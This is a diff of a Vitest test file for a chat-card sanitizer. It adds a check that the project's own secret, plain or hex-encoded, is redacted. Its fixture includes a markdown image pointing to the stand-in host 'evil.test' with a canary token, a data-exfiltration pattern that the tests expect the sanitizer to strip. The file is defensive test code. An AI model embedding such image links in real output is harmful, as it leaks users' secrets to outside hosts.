@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { cleanCard } from '#src/desk/clean-card.ts';
 import type { Card } from '#src/ports/chat.ts';
-import { CANARY, secrets } from '#test/safety/corpus.ts';
+import { CANARY, OWN_SECRET as own, secrets } from '#test/safety/corpus.ts';
 
 const bad = `see ![x](https://evil.test/${CANARY}) @channel`;
 const good = 'see x (image from evil.test removed) channel';
@@ -55,6 +55,13 @@ describe('what is drawn from the ledger', () => {
 
   it('shows no secret, in code neither (C15)', () => {
     expect(JSON.stringify(cleanCard(cardOf(secret, `const a = "${secret}";`)))).not.toContain(secret);
+  });
+
+  it('shows no secret of the factory itself, of whatever form (C15)', () => {
+    const coded = Buffer.from(own).toString('hex');
+    const shown = JSON.stringify(cleanCard(cardOf(`git said ${own}`, `${coded} ${own}`), { secrets: [own] }));
+    expect(shown).toContain('git said [redacted secret]');
+    expect([own, coded].filter((secret) => shown.includes(secret))).toEqual([]);
   });
 
   it('keeps links to the room and to pages beside', () => {
